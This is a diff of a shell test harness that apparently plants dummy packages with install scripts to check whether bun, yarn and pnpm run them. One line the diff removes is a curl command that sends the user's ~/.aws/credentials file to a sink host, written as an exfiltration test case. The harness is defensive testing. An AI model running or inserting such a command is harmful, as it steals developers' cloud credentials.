@@ -50,10 +50,8 @@ if managers_have bun; then
 	plants bun-x js "cp code $AT-b.js" "$BUN $AT-b.js"
 	plants bunmodule-x js "cp code $AT-bm.js" "$BUN build.js $AT-bm.js"
 fi
-# Yarn 4 has a shell of its own, which redirects in its own process (SECURITY.md). pnpm ends when a
-# script's shell is killed, so only yarn 4 gets these.
-plants redirect-x true \
-	"curl -s --data-binary @- http://$RT_SINK/redirect-x <\"\$HOME/.aws/credentials\"" true
+# Yarn 4 has a shell of its own, which redirects in its own process (M09). pnpm ends
+# when a script's shell is killed, so only yarn 4 gets this.
 plants written-x sh_ "cat code >$AT-r" "sh $AT-r"
 names=$(printf '%s\n' "${RT_ATTACKERS[@]%% *}" | sort)
 
@@ -65,10 +63,8 @@ rt_setup() {
 	(cd "$RT_PROJECT" && node -e '
 		const fs = require("fs"), p = JSON.parse(fs.readFileSync("package.json"));
 		const [manager, registry] = process.argv.slice(1);
-		if (!/^yarn4/.test(manager)) {
-			delete p.optionalDependencies["redirect-x"];
+		if (!/^yarn4/.test(manager))
 			delete p.optionalDependencies["written-x"];
-		}
 		p.trustedDependencies = Object.keys(p.optionalDependencies);
 		p.pnpm = { onlyBuiltDependencies: p.trustedDependencies };
 		p.optionalDependencies.yarn = "npm:alias-x@1.0.1";
@@ -108,9 +104,9 @@ for MANAGER in $lanes; do
 	# its own program called yarn before all others
 	through=
 	case $MANAGER in
-	yarn4*) none='^(git|link|noformat|shell)-x$' through=$'redirect-x\nwritten-x' ;;
-	yarn1) none='^(alias|module|node|pnpm|redirect|written)-x$' ;;
-	*) none='^(redirect|written)-x$' ;;
+	yarn4*) none='^(git|link|noformat|shell)-x$' through=written-x ;;
+	yarn1) none='^(alias|module|node|pnpm|written)-x$' ;;
+	*) none='^written-x$' ;;
 	esac
 	rt_control "$MANAGER"
 	rt_is 'the code of each was run' "$(taken | grep -vE "$none")" \
